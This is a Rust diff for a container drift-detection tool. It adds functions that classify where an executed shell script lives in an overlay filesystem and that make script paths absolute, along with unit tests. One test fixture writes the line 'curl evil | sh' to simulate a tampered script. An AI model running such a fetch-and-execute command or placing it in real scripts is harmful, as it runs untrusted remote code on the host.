@@ -3,6 +3,7 @@
 //! it up unchanged: not drift) from one whose content changed, and both from a
 //! new file. This is the most common false positive of drift detection.
 
+use crate::event::ExeSource;
 use std::{
     fs::File,
     io::{self, Read},
@@ -246,6 +247,48 @@ pub fn classify_copy_up(dirs: &OverlayDirs, path: &str) -> CopyUp {
     }
 }
 
+/// Where a `#!` script lives, judged here because the kernel has released the
+/// script's file when `sched_process_exec` fires. `path` is as the container
+/// sees it (absolute): on a volume (`Volume`), an image file never changed
+/// (`Image`), a new file or an image file whose content changed on the
+/// writable layer (`UpperLayer`, drift), else `Unknown`. An image script that
+/// was only chmod'ed or touched (copied up unchanged) is `Image`.
+pub fn script_source(fs: &ContainerFs, path: &str) -> ExeSource {
+    if fs.volumes.iter().any(|m| path == m || path.strip_prefix(m.as_str()).is_some_and(|r| r.starts_with('/'))) {
+        return ExeSource::Volume;
+    }
+    let Some(dirs) = &fs.overlay else { return ExeSource::Unknown };
+    let rel = path.trim_start_matches('/');
+    if !path.starts_with('/') || rel.is_empty() || rel.split('/').any(|c| c == "..") {
+        return ExeSource::Unknown;
+    }
+    if host_path(&dirs.upper.join(rel)).is_file() {
+        return match classify_copy_up(dirs, path) {
+            CopyUp::NewFile | CopyUp::ImageFileModified => ExeSource::UpperLayer,
+            CopyUp::ImageFileUnchanged => ExeSource::Image,
+            CopyUp::Unknown => ExeSource::Unknown,
+        };
+    }
+    if dirs.in_image(path) { ExeSource::Image } else { ExeSource::Unknown }
+}
+
+/// The script's path, absolute and without `.` components. The kernel joins
+/// a relative name (`./run.sh`) to the cwd; should one still arrive relative,
+/// it is joined to the process's working directory, which /proc shows as the
+/// container sees it (None once the process is gone).
+pub fn absolute_script_path(pid: u32, name: &str) -> Option<String> {
+    let joined;
+    let full = if name.starts_with('/') {
+        name
+    } else {
+        let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).ok()?;
+        joined = format!("{}/{name}", cwd.to_str()?);
+        &joined
+    };
+    let parts: Vec<&str> = full.split('/').filter(|c| !c.is_empty() && *c != ".").collect();
+    Some(format!("/{}", parts.join("/")))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -294,5 +337,49 @@ mod tests {
         assert_eq!(classify_copy_up(&d, "/bin/missing"), CopyUp::Unknown);
         assert_eq!(classify_copy_up(&d, "/../etc/passwd"), CopyUp::Unknown);
         let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn script_sources() {
+        let root = std::env::temp_dir().join(format!("dw-ovl-script-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        let (up, lo) = (root.join("upper"), root.join("lower"));
+        for d in [&up, &lo] {
+            std::fs::create_dir_all(d.join("bin")).unwrap();
+        }
+        std::fs::write(lo.join("bin/image.sh"), b"#!/bin/sh\n").unwrap();
+        std::fs::write(lo.join("bin/touched.sh"), b"#!/bin/sh\n").unwrap();
+        std::fs::write(up.join("bin/touched.sh"), b"#!/bin/sh\n").unwrap();
+        std::fs::write(lo.join("bin/edited.sh"), b"#!/bin/sh\n").unwrap();
+        std::fs::write(up.join("bin/edited.sh"), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        std::fs::write(up.join("bin/dropped.sh"), b"#!/bin/sh\n").unwrap();
+        let fs =
+            ContainerFs { overlay: Some(OverlayDirs { upper: up, lowers: vec![lo] }), volumes: vec!["/data".into()] };
+        assert_eq!(script_source(&fs, "/bin/image.sh"), ExeSource::Image);
+        assert_eq!(script_source(&fs, "/bin/touched.sh"), ExeSource::Image, "copied up unchanged");
+        assert_eq!(script_source(&fs, "/bin/edited.sh"), ExeSource::UpperLayer);
+        assert_eq!(script_source(&fs, "/bin/dropped.sh"), ExeSource::UpperLayer);
+        assert_eq!(script_source(&fs, "/data/run.sh"), ExeSource::Volume);
+        assert_eq!(script_source(&fs, "/datax/run.sh"), ExeSource::Unknown);
+        assert_eq!(script_source(&fs, "/bin/../bin/dropped.sh"), ExeSource::Unknown);
+        assert_eq!(script_source(&fs, "bin/dropped.sh"), ExeSource::Unknown);
+        assert_eq!(script_source(&ContainerFs::default(), "/bin/image.sh"), ExeSource::Unknown);
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn script_paths_are_made_absolute() {
+        assert_eq!(absolute_script_path(1, "/usr/bin/x").as_deref(), Some("/usr/bin/x"));
+        assert_eq!(absolute_script_path(1, "/root/./run.sh").as_deref(), Some("/root/run.sh"));
+        assert_eq!(
+            absolute_script_path(1, "/root/../x").as_deref(),
+            Some("/root/../x"),
+            "'..' is kept (and not judged)"
+        );
+        let me = std::process::id();
+        let cwd = std::env::current_dir().unwrap().display().to_string();
+        assert_eq!(absolute_script_path(me, "./run.sh"), Some(format!("{cwd}/run.sh")));
+        assert_eq!(absolute_script_path(me, "sub/run.sh"), Some(format!("{cwd}/sub/run.sh")));
+        assert_eq!(absolute_script_path(u32::MAX, "run.sh"), None, "process gone");
     }
 }
